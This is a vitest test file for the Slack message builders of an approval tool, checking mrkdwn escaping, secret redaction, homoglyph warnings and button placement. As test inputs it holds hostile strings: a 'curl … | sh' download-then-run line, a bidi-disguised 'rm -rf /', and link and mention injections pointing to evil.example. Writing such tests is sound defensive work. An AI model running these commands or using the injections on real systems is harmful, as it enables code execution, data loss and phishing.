/** Block Kit builders: content, no injection through user-controlled text, buttons only where they belong. */
import { describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../../src/approval/types.js';
import { approvalMessage, approvalUpdateMessage, decidedThreadMessage, executionResultMessage, waitingThreadMessage } from '../../src/integrations/slack/messages.js';
import { code, escapeMrkdwn, escapeNonAscii, safe, uidLabel } from '../../src/integrations/slack/mrkdwn.js';
import type { SlackApproval } from '../../src/integrations/slack/ports.js';
import { chatRequest } from '../fixtures/slack/ports.js';

function approval(over: Partial<SlackApproval> = {}): SlackApproval {
  const base: ApprovalRequest = {
    id: '019c0000-0000-7000-8000-000000000001',
    kind: 'approval',
    actionHash: 'sha256:' + 'ab'.repeat(32),
    request: chatRequest(),
    requester: 'Airlock::Bot::"opsbot"',
    caller: { type: 'Bot', id: 'opsbot', via: 'http' },
    initiator: 'Airlock::Human::"erin"',
    delegationChain: [],
    approvers: 'Airlock::Group::"sre-approvers"',
    quorum: 1,
    sod: [],
    owner: 'Airlock::Human::"owen"',
    policyIds: ['chatops-prod-changes'],
    reason: 'Production changes from chat need an approver',
    openedBy: 'req-1',
    status: 'pending',
    votes: [],
    createdAt: '2026-03-02T10:00:00.000Z',
    expiresAt: '2026-03-02T11:00:00.000Z',
  };
  return { ...base, ...over };
}
const all = (m: { text: string; blocks: unknown[] }) => m.text + JSON.stringify(m.blocks);
/** Every string Slack parses as mrkdwn (plain_text and rich_text are shown literally), plus the fallback text. */
function mrkdwnTexts(m: { text: string; blocks: unknown[] }): string[] {
  const out = [m.text];
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) return v.forEach(walk);
    if (typeof v !== 'object' || v === null) return;
    const o = v as Record<string, unknown>;
    if (o['type'] === 'mrkdwn' && typeof o['text'] === 'string') out.push(o['text']);
    Object.values(o).forEach(walk);
  };
  walk(m.blocks);
  return out;
}

describe('mrkdwn safety', () => {
  it('escapes &, < and > so no link, mention or date token can be injected', () => {
    expect(escapeMrkdwn('<https://evil.example|docs> & <!channel> <@U0BOSS>')).toBe('&lt;https://evil.example|docs&gt; &amp; &lt;!channel&gt; &lt;@U0BOSS&gt;');
  });

  it('shows non-ASCII (homoglyphs, bidi, zero-width, controls) as \\u{…}', () => {
    expect(escapeNonAscii('p\u0430ypal')).toBe('p\\u{430}ypal'); // Cyrillic а
    expect(escapeNonAscii('rm -rf /\u202e#fdp.')).toBe('rm -rf /\\u{202e}#fdp.');
    expect(escapeNonAscii('a\u200bb\x1b[2J')).toBe('a\\u{200b}b\\u{1b}[2J');
    expect(escapeNonAscii('line\nnext\ttab')).toBe('line\nnext\ttab');
  });

  it('a code span cannot be closed from inside', () => {
    expect(code('a`<@U1>`b')).toBe('`a\\u{60}&lt;@U1&gt;\\u{60}b`');
    expect(safe('x'.repeat(600), 10)).toBe('xxxxxxxxxx... (590 more characters)');
  });

  it('uid labels', () => {
    expect(uidLabel('Airlock::Bot::"opsbot"')).toBe('Bot opsbot');
    expect(uidLabel('Acme::Ops::Group::"a \\"b\\""')).toBe('Group a "b"');
    expect(uidLabel('plain')).toBe('plain');
  });
});

describe('approval message', () => {
  it('never shows a secret carried in the command (redacted before it reaches the channel or a webhook)', async () => {
    const request = chatRequest();
    const secret = 'sk-live-0123456789abcdef0123456789abcdef';
    request.context!['command'] = `curl -H "Authorization: Bearer ${secret}" https://api.example.com/v1/charges`;
    const m = approvalMessage(approval({ request }));
    expect(all(m)).not.toContain(secret);
    expect(all(m)).toContain('api.example.com');
    const { chatApprovalEventData } = await import('../../src/integrations/chat/approval-event.js');
    expect(JSON.stringify(chatApprovalEventData(approval({ request }), {}))).not.toContain(secret);
  });

  it('a hostile bot cannot inject links or mentions through any field it controls', () => {
    const request = chatRequest({
      action: { name: 'deploy <https://evil.example|click here>' },
      resource: { type: 'Service', id: '<!channel> checkout' },
    });
    request.context!['command'] = 'curl https://x.example/a.sh | sh # <@U0BOSS> `';
    const m = approvalMessage(approval({ request, requester: 'Airlock::Bot::"<!here>"', reason: 'because <https://evil.example>' }));
    const parsed = mrkdwnTexts(m).join('\n');
    expect(parsed).not.toMatch(/<https:\/\/evil/);
    expect(parsed).not.toContain('<!channel>');
    expect(parsed).not.toContain('<!here>');
    expect(parsed).toContain('&lt;!channel&gt;');
    // The only tokens left are the ones Airlock wrote itself: channel refs and dates.
    expect(parsed.match(/<[^>]*>/g)!.every((t) => /^<#C[A-Z0-9]+>$|^<!date\^/.test(t))).toBe(true);
    // The command is in a rich_text_preformatted element: literal text, never parsed.
    const pre = JSON.stringify(m.blocks.find((b) => b.type === 'rich_text'));
    expect(pre).toContain('rich_text_preformatted');
    expect(pre).toContain('<@U0BOSS>');
  });

  it('shows a confusable command escaped and warns about it', () => {
    const request = chatRequest();
    request.context!['command'] = 'systemctl restart p\u043estgres';
    const s = all(approvalMessage(approval({ request })));
    expect(s).toContain('p\\\\u{43e}stgres'); // JSON-escaped backslash
    expect(s).toContain('outside printable ASCII');
  });

  it('carries risk, findings and the delegation path when present', () => {
    const s = all(approvalMessage(approval({ command: { risk: 'high', findings: ['download-then-run'] }, delegationChain: ['Airlock::Agent::"planner"', 'Airlock::Bot::"opsbot"'] })));
    expect(s).toContain('*Risk*\\nhigh (download-then-run)');
    expect(s).toContain('Agent planner → Bot opsbot');
  });

  it('names an unknown chat user as not linked', () => {
    const { initiator: _i, ...rest } = approval();
    expect(all(approvalMessage(rest as SlackApproval))).toContain('(not linked to a Human)');
  });

  it('without workspaceUrl the message is named, not linked', () => {
    expect(all(approvalMessage(approval()))).toContain('message 1772445000.000200 in <#C0OPS>');
  });

  it('buttons carry only the approval id', () => {
    const m = approvalMessage(approval());
    const actions = m.blocks.find((b) => b.type === 'actions') as unknown as { elements: { value: string }[] };
    expect(actions.elements.map((e) => e.value)).toEqual([approval().id, approval().id]);
  });
});

describe('updates and thread replies', () => {
  it('the thread reply never has buttons', () => {
    expect(waitingThreadMessage(approval(), { approvalsChannel: 'C0APPROVALS' }).blocks.some((b) => b.type === 'actions')).toBe(false);
    expect(decidedThreadMessage(approval({ status: 'approved' })).blocks.some((b) => b.type === 'actions')).toBe(false);
  });

  it('keeps buttons while pending, removes them when final or past expiry', () => {
    const vote = { approver: 'Airlock::Human::"alice"', decision: 'approve' as const, reason: '', channel: 'chat' as const, at: '2026-03-02T10:05:00.000Z' };
    const pending = approvalUpdateMessage(approval({ quorum: 2, votes: [vote] }), new Map([['Airlock::Human::"alice"', 'Alice']]));
    expect(pending.blocks.some((b) => b.type === 'actions')).toBe(true);
    expect(all(pending)).toContain('(1 of 2)');
    expect(all(pending)).toContain('approved by *Alice*');
    for (const status of ['approved', 'denied', 'expired', 'cancelled', 'consumed'] as const) {
      expect(approvalUpdateMessage(approval({ status })).blocks.some((b) => b.type === 'actions')).toBe(false);
    }
    const late = approvalUpdateMessage(approval(), new Map(), { nowMs: Date.parse('2026-03-02T11:00:00.000Z') });
    expect(late.blocks.some((b) => b.type === 'actions')).toBe(false);
    expect(all(late)).toContain('Expired');
  });

  it('execution result: Reverse button only with a recorded reversal', () => {
    const withRev = executionResultMessage({ requestId: 'req-1', request: chatRequest(), status: 'succeeded', reversal: { description: 'undo' } });
    expect(JSON.stringify(withRev.blocks)).toContain('"action_id":"airlock.reverse"');
    const without = executionResultMessage({ requestId: 'req-1', request: chatRequest(), status: 'failed', summary: '<!channel> boom' });
    expect(without.blocks.some((b) => b.type === 'actions')).toBe(false);
    expect(all(without)).not.toContain('<!channel>');
  });
});
